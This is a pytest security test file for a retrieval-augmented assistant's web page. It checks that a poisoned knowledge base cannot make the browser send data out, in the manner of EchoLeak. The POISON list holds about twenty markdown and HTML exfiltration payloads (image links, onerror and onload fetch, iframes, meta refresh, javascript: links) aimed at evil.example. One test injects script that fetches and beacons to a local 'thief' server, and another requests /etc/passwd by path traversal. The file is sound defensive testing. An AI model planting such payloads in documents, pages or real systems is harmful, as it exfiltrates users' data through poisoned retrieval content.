"""A poisoned knowledge base in a real browser: nothing of it runs, and no request leaves the page.

The lesson of EchoLeak (CVE-2025-32711): filters of prose were passed by ordinary words, and the
page then fetched a picture whose address held what was to be stolen.
"""

import contextlib
import json
import os
import shutil
import socket
import urllib.error
import urllib.request
from pathlib import Path

import pytest

from consilia.assistant import Assistant
from consilia.ingestion import Ingestion
from consilia.settings import Settings
from consilia.testing import HashEmbedder

pytestmark = [
    pytest.mark.browser,
    # Gradio's queue asks pandas for options that pandas 3 has deprecated.
    pytest.mark.filterwarnings("ignore:'future.no_silent_downcasting':DeprecationWarning"),
]

QUESTION = "What is the dose of zelvoprine for flumbosis?"
EVIL = "https://evil.example"
POISON = [
    f"![x]({EVIL}/a.png)",
    f"![x][leak] [leak]: {EVIL}/b.png",
    f"[click][ref] [ref]: {EVIL}/c?q=secret",
    f"<{EVIL}/d>",
    f"{EVIL}/e and www.evil.example/f",
    f"<img src={EVIL}/g.png>",
    f'<img src="x" onerror="fetch(\'{EVIL}/h\')">',
    f'<svg onload="fetch(\'{EVIL}/i\')"><image href="{EVIL}/j.svg"/></svg>',
    f'<iframe src="{EVIL}/k"></iframe><object data="{EVIL}/l"></object><embed src="{EVIL}/m">',
    f"<style>@import '{EVIL}/n.css'; body {{ background: url({EVIL}/o.png) }}</style>",
    f'<div style="background-image:url({EVIL}/p.png)">x</div>',
    f'<form action="{EVIL}/q" id=f><input name=a value=secret autofocus></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/r">',
    f'<link rel="stylesheet" href="{EVIL}/s.css"><link rel="dns-prefetch" href="{EVIL}">',
    f"<script src='{EVIL}/t.js'></script><script>document.title='taken'</script>",
    f'<video poster="{EVIL}/u.png" src="{EVIL}/v.mp4"></video><audio src="{EVIL}/w.mp3" autoplay>',
    f"<a href='javascript:fetch(`{EVIL}/x`)' ping='{EVIL}/y'>read on</a>",
    f"</div></details></li><base href='{EVIL}/'><picture><source srcset='{EVIL}/z.png'></picture>",
    f"&lt;img src={EVIL}/entity.png&gt; &#60;img src={EVIL}/number.png&#62;",
    "<a href='data:text/html,<script>alert(1)</script>'>read on</a>",
    f"$$\\href{{{EVIL}/tex}}{{x}}$$ <math href='{EVIL}/math'><mtext>x</mtext></math>",
]
ARGUMENTS = ["--no-sandbox", "--disable-gpu", "--disable-background-networking", "--disable-sync"]
FORBIDDEN = (
    "img, svg image, iframe, object, embed, form, meta[http-equiv], style, link, script, video, "
    "audio, base, picture, [style], [onerror], [onload], [ping], [href^=javascript], [href^=data]"
)


def missing(reason):
    """Skip on a developer's machine without a browser; a pipeline must have one."""
    if os.environ.get("CI") == "true":
        pytest.fail(reason)
    pytest.skip(reason)


@pytest.fixture(scope="module")
def chromium():
    try:
        from playwright.sync_api import sync_playwright
    except ImportError:
        missing("playwright is not installed")
    with sync_playwright() as playwright:
        bundled = playwright.chromium.executable_path
        path = shutil.which("chromium") or shutil.which("google-chrome") or bundled
        if not Path(path).exists():
            missing(f"no Chromium: neither on the path nor at {bundled}")
        browser = playwright.chromium.launch(executable_path=path, args=ARGUMENTS)
        yield browser
        browser.close()


@pytest.fixture(scope="module")
def poisoned(tmp_path_factory):
    """A knowledge base whose documents carry the poison in every field that is shown."""
    home = tmp_path_factory.mktemp("poisoned") / "kb"
    folder = tmp_path_factory.mktemp("poisoned-documents")
    paths = []
    for number, poison in enumerate(POISON):
        front = {
            "id": f"poison-{number}",
            "kind": "label",
            "title": f"Zelvoprine label {number} {poison}",
            "authors": f"Flumbo A {poison}",
            "issuer": f"Agency {poison}",
            "url": f"{EVIL}/registered?n={number}",
        }
        dose = f"For flumbosis the zelvoprine dose is {number + 1} mg {poison} daily."
        text = f"## Dosing {poison}\n\n{dose}\n"
        path = folder / f"poison-{number}.md"
        path.write_text(f"---\n{json.dumps(front)}\n---\n\n{text}", encoding="utf-8")
        paths.append(path)
    report = Ingestion(home, HashEmbedder).add(paths)
    for document in report.quarantined:
        Ingestion(home, HashEmbedder).release(document, "a test")
    assert report.refused == ()
    return home


@pytest.fixture(scope="module")
def address(poisoned):
    from consilia.web import page
    from consilia.web.server import Place

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    settings = Settings(risk=0.25)
    with Assistant.open(poisoned, settings, embedder=HashEmbedder()) as assistant:
        serving = page.service(assistant, Place("127.0.0.1", port)).begin()
        yield serving.address
        serving.close()


@pytest.fixture
def visited(chromium, address):
    """The page after a question, and every request that it made or tried to make."""
    context = chromium.new_context()
    page = context.new_page()
    requests = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(address)

    def ask(question):
        box = page.get_by_role("textbox").first
        box.wait_for()
        count = page.locator(".answer, .problem").count()
        box.fill(question)
        box.press("Enter")
        page.locator(".answer, .problem").nth(count).wait_for(timeout=60_000)
        for summary in page.locator(".answer summary").all():
            summary.click()
        page.wait_for_timeout(500)
        return page.locator(".answer").last

    yield page, ask, requests
    context.close()


def away(requests, address):
    return [url for url in requests if not url.startswith((f"{address}/", "data:", "blob:"))]


def test_no_request_leaves_the_page_and_nothing_of_a_document_is_markup(visited, address):
    page, ask, requests = visited
    answer = ask(QUESTION)

    assert "mg" in answer.inner_text()
    assert "evil.example" in answer.inner_text()  # the poison is there, as words
    assert away(requests, address) == []
    assert answer.locator(FORBIDDEN).count() == 0
    assert page.title() == "Consilia"
    assert page.url.startswith(address)


def test_links_of_an_answer_are_the_registered_addresses_byte_for_byte(visited):
    _, ask, _ = visited
    answer = ask(QUESTION)
    links = answer.locator("a").evaluate_all("all => all.map(a => a.getAttribute('href'))")
    outward = {link for link in links if not link.startswith("#")}

    assert outward
    assert outward <= {f"{EVIL}/registered?n={number}" for number in range(len(POISON))}
    for relation in answer.locator("a[target]").evaluate_all("all => all.map(a => a.rel)"):
        assert set(relation.split()) >= {"noopener", "noreferrer"}


@pytest.mark.parametrize("poison", POISON[:3] + POISON[5:8])
def test_a_poisoned_question_is_words_too(visited, address, poison):
    page, ask, requests = visited
    ask(f"{QUESTION} {poison}")

    assert away(requests, address) == []
    assert page.locator(".asked").locator(FORBIDDEN).count() == 0


def test_the_policy_stops_what_would_slip_through(visited, address):
    page, _, _ = visited
    thief = socket.create_server(("127.0.0.1", 0))
    thief.settimeout(0.1)
    page.get_by_role("textbox").first.wait_for()
    page.evaluate(
        """evil => {
          const made = (name, set) => Object.assign(document.createElement(name), set)
          const tag = (name, set) => document.body.append(made(name, set))
          tag('img', {src: evil + '/img.png'})
          tag('script', {src: evil + '/a.js'})
          tag('script', {textContent: "document.title = 'taken'"})
          tag('iframe', {src: evil + '/frame'})
          tag('link', {rel: 'stylesheet', href: evil + '/a.css'})
          fetch(evil + '/fetch').catch(() => null)
          navigator.sendBeacon(evil + '/beacon')
          const form = made('form', {action: evil + '/form'})
          document.body.append(form); form.submit()
        }""",
        f"http://127.0.0.1:{thief.getsockname()[1]}",
    )
    page.wait_for_timeout(1000)

    assert page.title() != "taken"
    assert page.get_by_role("textbox").first.is_visible()
    assert page.url.startswith(address)
    assert sent_to(thief) == b""


def sent_to(thief):
    """What reached a server: a browser may connect ahead of a request that its policy stops."""
    said = b""
    with thief, contextlib.suppress(TimeoutError):
        while True:
            client, _ = thief.accept()
            client.settimeout(1)
            with client, contextlib.suppress(TimeoutError):
                said += client.recv(65_536)
    return said


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/config",
        "/theme.css",
        "/nothing",
        "/gradio_api/file=/etc/passwd",
        "/gradio_api/queue/data?session_hash=none",
        "/favicon.ico",
        "/static/js/iframeResizer.contentWindow.min.js",
    ],
)
def test_every_response_of_the_real_server_has_the_headers(address, path):
    try:
        reply = urllib.request.urlopen(address + path, timeout=20)
    except urllib.error.HTTPError as error:
        reply = error
    with reply:
        headers = reply.headers
    for name, value in (
        ("x-content-type-options", "nosniff"),
        ("referrer-policy", "no-referrer"),
        ("cache-control", "no-store"),
        ("x-frame-options", "DENY"),
    ):
        assert headers.get_all(name) == [value], (path, name)
    assert "default-src 'self'" in headers["content-security-policy"]
    assert headers["server"] is None


def test_what_is_no_http_is_answered_with_the_headers_and_shut(address):
    host, port = address.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=20) as client:
        client.sendall(b"\x16\x03\x01 no http\r\n\r\n")
        reply = client.recv(65_536)
    assert reply.startswith(b"HTTP/1.1 400")
    assert b"cache-control: no-store" in reply


def test_a_connection_that_sends_no_whole_head_is_shut(poisoned):
    from consilia.web import page
    from consilia.web.limits import Limits
    from consilia.web.server import Place

    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port = probe.getsockname()[1]
    with Assistant.open(poisoned, embedder=HashEmbedder()) as assistant:
        serving = page.service(
            assistant, Place("127.0.0.1", port), Limits(head_seconds=0.3)
        ).begin()
        with socket.create_connection(("127.0.0.1", port), timeout=30) as client:
            client.sendall(b"GET / HTTP/1.1\r\n")
            assert client.recv(10) == b""
        with socket.create_connection(("127.0.0.1", port), timeout=30) as client:
            assert client.recv(10) == b""
        serving.close()
